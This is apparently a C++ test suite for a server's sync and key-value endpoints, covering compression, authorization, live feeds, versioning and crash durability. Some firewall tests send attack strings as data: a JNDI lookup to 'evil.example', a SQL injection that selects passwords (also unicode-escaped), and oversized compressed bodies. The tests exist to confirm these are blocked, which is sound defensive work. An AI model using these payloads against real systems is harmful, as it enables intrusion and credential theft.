// Goal: what the data side acknowledges is there, once and in order, for those who may see it.

#include "server.h"

#include "base/limits.h"
#include "store/codec.h"
#include "text/json.h"

#include <catch2/catch.hpp>

#include <chrono>
#include <csignal>
#include <thread>

using namespace weir;
using flow::Connection;

namespace {

constexpr std::string_view config =
    "[auth.main]\nissuer = \"https://id.test/\"\naudiences = [\"weir\"]\nalgorithms = "
    "[\"HS256\"]\nsecret = { file = \"secret\" }\n\n"
    "[data]\n\n[[data.sync_rule]]\nmatch = \"notes/{owner}/**\"\nread = \"sub == owner or "
    "'notes:read' in scope\"\nwrite = \"sub == owner\"\n\n"
    "[[data.kv_rule]]\nmatch = \"settings/{owner}\"\nread = \"sub == owner\"\nwrite = \"sub == "
    "owner\"\n\n"
    "[[route]]\nname = \"data\"\nmatch = { path = [\"/sync/**\", \"/kv/**\"] }\nto = { data = true "
    "}\nstages = [\n"
    "  { trace = \"w3c\", failure_mode = \"open\" },\n  { auth = [\"main\"], failure_mode = "
    "\"closed\" },\n  { waf = \"block\", failure_mode = \"closed\" },\n]\n";

void write_data_site(const test::TemporaryDirectory& directory) {
  directory.write("secret", "a-secret-of-at-least-thirty-two-bytes");
  flow::write_site(directory, config);
}

std::string token_of(const test::TemporaryDirectory& directory, const std::string& subject) {
  auto ran =
      flow::run({"--root", directory.path(), "token", "mint", "--auth", "main", "--sub", subject});
  REQUIRE(ran.code == 0);
  ran.out.pop_back();
  return "Authorization: Bearer " + ran.out + "\r\n";
}

std::string stamp(int counter) {
  const auto now = std::chrono::duration_cast<std::chrono::milliseconds>(
                       std::chrono::system_clock::now().time_since_epoch())
                       .count();
  char text[17];
  std::snprintf(text, sizeof text, "%012llx%04x", static_cast<unsigned long long>(now),
                static_cast<unsigned>(counter & 0xffff));
  return text;
}

std::string batch(const std::string& replica, int counter, const std::string& value) {
  return "{\"rep\":\"" + replica + "\",\"n\":" + std::to_string(counter) +
         ",\"ops\":[{\"e\":\"task\",\"f\":\"title\",\"t\":\"lww\",\"h\":\"" + stamp(counter) +
         "\",\"v\":\"" + value + "\"}]}";
}

constexpr std::string_view replica = "r_7hq3k2v9xw4mzp1c";

}  // namespace

TEST_CASE("a body is compressed once or not at all, else it is refused", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  INFO(server.process().errors());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
  Connection connection(server.port());
  for (const std::string_view coding :
       {"br", "deflate", "identity, gzip", "gzip, gzip", "identity\r\nContent-Encoding: gzip"}) {
    INFO(coding);
    const auto refused = connection.request(
        "PUT", "/kv/settings/ann", ann + "Content-Encoding: " + std::string(coding) + "\r\n", "5");
    CHECK(refused.status == 415);
    CHECK(refused.field("accept-encoding") == "gzip, zstd, identity");
    CHECK_THAT(refused.body, Catch::Contains("/_weir/problems/coded-body"));
  }
  CHECK(connection.get("/kv/settings/ann", ann).status == 404);
  CHECK(connection.request("PUT", "/kv/settings/ann", ann + "Content-Encoding: identity\r\n", "5")
            .status == 201);
}

TEST_CASE("a compressed body is decoded before it is inspected and stored", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  INFO(server.process().errors());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
  const std::string gzip = ann + "Content-Encoding: gzip\r\n";
  const std::string zstd = ann + "Content-Encoding: zstd\r\n";
  Connection connection(server.port());
  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of("\"five\"")).status ==
        201);
  CHECK(connection.get("/kv/settings/ann", ann).body == "\"five\"");
  const std::string first = batch(std::string(replica), 1, "Buy milk");
  const auto pushed =
      connection.request("POST", "/sync/notes/ann/list/ops", zstd, store::zstd_of(first));
  INFO(pushed.body);
  CHECK(pushed.status == 200);
  // What the firewall refuses in plain text it refuses in any coding.
  const std::string attack = "\"${jndi:ldap://evil.example/a}\"";
  CHECK(connection.request("PUT", "/kv/settings/ann", ann, attack).status == 403);
  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of(attack)).status == 403);
  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, store::zstd_of(attack)).status == 403);
  // A bomb, a body above the bound, and bytes that are neither.
  const std::string large = '"' + std::string(limits::sync_body_bytes_max, 'x') + '"';
  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, store::gzip_of(large)).status == 413);
  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, store::zstd_of(large)).status == 413);
  CHECK(connection.request("PUT", "/kv/settings/ann", gzip, "\"five\"").status == 400);
  CHECK(connection.request("PUT", "/kv/settings/ann", zstd, "\"five\"").status == 400);
  CHECK(connection.get("/kv/settings/ann", ann).body == "\"five\"");
}

TEST_CASE("an operation that was pushed is read, once, and its snapshot folds", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  INFO(server.process().errors());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann");
  Connection connection(server.port());
  const std::string first = batch(std::string(replica), 1, "Buy milk");
  const auto pushed = connection.request("POST", "/sync/notes/ann/list/ops", ann, first);
  INFO(pushed.body);
  REQUIRE(pushed.status == 200);
  CHECK_THAT(pushed.body, Catch::Contains("\"durable\":true"));
  CHECK(pushed.field("sync-token").find("t1.") == 0);
  const auto again = connection.request("POST", "/sync/notes/ann/list/ops", ann, first);
  CHECK(again.status == 200);
  CHECK_THAT(again.body, Catch::Contains("\"dup\":1"));
  const auto page = connection.get("/sync/notes/ann/list?since=0", ann);
  CHECK(page.status == 200);
  const auto read = text::parse_json(page.body);
  REQUIRE(read.ok());
  REQUIRE(read->find("ops") != nullptr);
  CHECK(read->find("ops")->array()->size() == 1);
  const auto snapshot = connection.get("/sync/notes/ann/list/snapshot", ann);
  CHECK(snapshot.status == 200);
  CHECK_THAT(snapshot.body, Catch::Contains("Buy milk"));
  const auto gap = connection.request("POST", "/sync/notes/ann/list/ops", ann,
                                      batch(std::string(replica), 9, "later"));
  CHECK(gap.status == 409);
  CHECK(gap.field("content-type") == "application/problem+json");
  CHECK_THAT(gap.body,
             Catch::Contains("/_weir/problems/op-gap") && Catch::Contains("\"expected\":2"));
}

TEST_CASE("claims decide who may read and who may write", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann"), ben = token_of(directory, "ben");
  Connection connection(server.port());
  CHECK(connection.get("/sync/notes/ann/list?since=0").status == 401);
  CHECK(connection.get("/sync/notes/ann/list?since=0", ben).status == 403);
  CHECK(connection
            .request("POST", "/sync/notes/ann/list/ops", ben, batch(std::string(replica), 1, "x"))
            .status == 403);
  CHECK(connection.get("/sync/other?since=0", ann).status == 403);
  CHECK(connection.request("PUT", "/kv/settings/ann", ben, "x").status == 403);
  CHECK(connection.get("/streams/x", ann).status == 404);
}

TEST_CASE("a long poll is answered by the next commit", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann");
  Connection writer(server.port()), reader(server.port());
  REQUIRE(
      writer.request("POST", "/sync/notes/ann/list/ops", ann, batch(std::string(replica), 1, "one"))
          .status == 200);
  const auto page = reader.get("/sync/notes/ann/list?since=0", ann);
  const auto read = text::parse_json(page.body);
  REQUIRE(read.ok());
  const std::string cursor = std::to_string(*read->find("to")->integer());
  reader.send("GET /sync/notes/ann/list?since=" + cursor +
              "&wait=15 HTTP/1.1\r\nHost: localhost\r\n" + ann + "\r\n");
  flow::pause_20ms();
  REQUIRE(
      writer.request("POST", "/sync/notes/ann/list/ops", ann, batch(std::string(replica), 2, "two"))
          .status == 200);
  const auto woken = reader.receive();
  CHECK(woken.status == 200);
  CHECK_THAT(woken.body, Catch::Contains("two") && !Catch::Contains("\"one\""));
}

TEST_CASE("server-sent events bring each commit, and the drain ends them", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann");
  Connection writer(server.port()), reader(server.port());
  REQUIRE(
      writer
          .request("POST", "/sync/notes/ann/list/ops", ann, batch(std::string(replica), 1, "alpha"))
          .status == 200);
  reader.send("GET /sync/notes/ann/list?since=0&live=sse HTTP/1.1\r\nHost: localhost\r\n" + ann +
              "\r\n");
  CHECK_THAT(reader.receive_until("alpha"),
             Catch::Contains("text/event-stream") && Catch::Contains("alpha"));
  REQUIRE(
      writer
          .request("POST", "/sync/notes/ann/list/ops", ann, batch(std::string(replica), 2, "beta"))
          .status == 200);
  CHECK_THAT(reader.receive_until("beta"), Catch::Contains("beta"));
  CHECK(server.stop() == 0);
}

TEST_CASE("a value is kept with its version, and compare-and-set holds", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
  Connection connection(server.port());
  const auto put = connection.request("PUT", "/kv/settings/ann", ann, "{\"theme\":\"dark\"}");
  INFO(put.head << put.body);
  CHECK((put.status == 200 || put.status == 201 || put.status == 204));
  const std::string version = put.field("etag");
  CHECK(version.find("\"v") == 0);
  const auto read = connection.get("/kv/settings/ann", ann);
  CHECK(read.status == 200);
  CHECK(read.body == "{\"theme\":\"dark\"}");
  CHECK(connection.request("PUT", "/kv/settings/ann", ann + "If-Match: \"v0\"\r\n", "{}").status ==
        412);
  CHECK(connection.request("PUT", "/kv/settings/ann", ann + "If-None-Match: *\r\n", "{}").status ==
        412);
  CHECK(connection
            .request("PUT", "/kv/settings/ann", ann + "If-Match: " + version + "\r\n",
                     "{\"theme\":\"light\"}")
            .status < 300);
  CHECK(connection.request("DELETE", "/kv/settings/ann", ann, {}).status == 204);
  CHECK(connection.get("/kv/settings/ann", ann).status == 404);
}

TEST_CASE("a body that looks like an attack is blocked before it is stored, also a large one",
          "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
  Connection connection(server.port());
  const std::string attack = "1' UNION SELECT password FROM users--";
  CHECK(connection.request("PUT", "/kv/settings/ann", ann, "{\"q\":\"" + attack + "\"}").status ==
        403);
  CHECK(connection
            .request("PUT", "/kv/settings/ann", ann,
                     "{\"pad\":\"" + std::string(40'000, 'a') + "\",\"q\":\"" + attack + "\"}")
            .status == 403);
  CHECK(
      connection
          .request("PUT", "/kv/settings/ann", ann, "{\"pad\":\"" + std::string(40'000, 'a') + "\"}")
          .status < 300);
}

TEST_CASE("an attack in a batch is blocked whatever type the batch declares", "[flow][sync]") {
  // The data side reads a push as JSON always; the inspection had believed Content-Type and saw
  // only escapes.
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann");
  Connection connection(server.port());
  const std::string evil =
      batch(std::string(replica), 1, "\\u0027 UNION \\u0053ELECT password FROM users--");
  for (const std::string type :
       {"application/json", "text/plain", "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x"}) {
    INFO(type);
    const std::string fields = ann + "Content-Type: " + type + "\r\n";
    const auto answer = connection.request("POST", "/sync/notes/ann/list/ops", fields, evil);
    CHECK(answer.status == 403);
    CHECK(answer.field("content-type") ==
          "application/problem+json");  // programs ask here, also without Accept
    CHECK_THAT(answer.body, Catch::Contains("\"trace_id\":"));
    const auto atomic = connection.request(
        "POST", "/kv/atomic", fields,
        "{\"sets\":[{\"k\":\"settings/ann\",\"v\":\"\\u0027 UNION SELECT a FROM b--\"}]}");
    CHECK(atomic.status == 403);
  }
}

TEST_CASE("a clean batch just below 1 MiB passes the inspection", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const std::string ann = token_of(directory, "ann") + "Content-Type: application/json\r\n";
  Connection connection(server.port());
  std::string words;
  while (words.size() < 60'000) words += "rivers and lakes ";
  std::string ops;
  for (int i = 0; i < 17; ++i)
    ops += std::string(i == 0 ? "" : ",") + "{\"e\":\"task\",\"f\":\"f" + std::to_string(i) +
           "\",\"t\":\"lww\",\"h\":\"" + stamp(i) + "\",\"v\":\"" + words + "\"}";
  const auto pushed = connection.request(
      "POST", "/sync/notes/ann/list/ops", ann,
      "{\"rep\":\"" + std::string(replica) + "\",\"n\":1,\"ops\":[" + ops + "]}");
  INFO(pushed.body);
  CHECK(pushed.status == 200);
}

TEST_CASE("a feed ends with the reader's token, also when its exp is a fraction", "[flow][sync]") {
  // An exp of 1764000000.5 was no whole number, and the feed went on for ten years.
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  const auto soon = std::chrono::duration_cast<std::chrono::seconds>(
                        std::chrono::system_clock::now().time_since_epoch())
                        .count() +
                    3;
  auto minted = flow::run({"--root", directory.path(), "token", "mint", "--auth", "main", "--sub",
                           "ann", "--claim", "exp:=" + std::to_string(soon) + ".5"});
  REQUIRE(minted.code == 0);
  minted.out.pop_back();
  Connection reader(server.port());
  reader.send(
      "GET /sync/notes/ann/list?since=0&live=sse HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
      "Bearer " +
      minted.out + "\r\n\r\n");
  CHECK_THAT(reader.receive_until("\r\n0\r\n\r\n"),
             Catch::Contains("text/event-stream") && Catch::EndsWith("\r\n0\r\n\r\n"));
}

TEST_CASE("every acknowledged operation is there after kill -9, once, in order", "[flow][sync]") {
  const test::TemporaryDirectory directory;
  write_data_site(directory);
  const std::string ann = token_of(directory, "ann");
  REQUIRE(flow::run({"--root", directory.path(), "build", "--no-export"}).code == 0);
  const std::size_t kills = test::rounds(3, 200);
  int acknowledged = 0;
  for (std::size_t round = 0; round < kills; ++round) {
    flow::Server server(directory.path());
    INFO(server.process().errors());
    REQUIRE(server.port() != 0);
    std::thread killer([&server, round] {
      ::usleep(static_cast<useconds_t>(20'000 + 1'300 * (round * 11 % 50)));
      server.process().signal(SIGKILL);
    });
    Connection connection(server.port());
    for (int tries = 0; tries < 200; ++tries) {
      const auto pushed = connection.request("POST", "/sync/notes/ann/list/ops", ann,
                                             batch(std::string(replica), acknowledged + 1, "op"));
      if (pushed.status == 0) break;
      INFO(pushed.body);
      CHECK(pushed.status == 200);
      ++acknowledged;
    }
    killer.join();
    server.process().wait();
  }
  flow::Server server(directory.path());
  REQUIRE(server.port() != 0);
  Connection connection(server.port());
  std::int64_t since = 0, expected = 1;
  bool more = true;
  while (more) {
    const auto page =
        connection.get("/sync/notes/ann/list?limit=500&since=" + std::to_string(since), ann);
    const auto read = text::parse_json(page.body);
    REQUIRE(read.ok());
    for (const text::Value& op : *read->find("ops")->array())
      CHECK(*op.find("ctr")->integer() == expected++);
    since = *read->find("to")->integer();
    more = *read->find("more")->boolean();
  }
  // One more than was acknowledged may be there: its answer was lost with the kill.
  CHECK(expected - 1 >= acknowledged);
  CHECK(expected - 1 <= acknowledged + static_cast<std::int64_t>(kills));
}
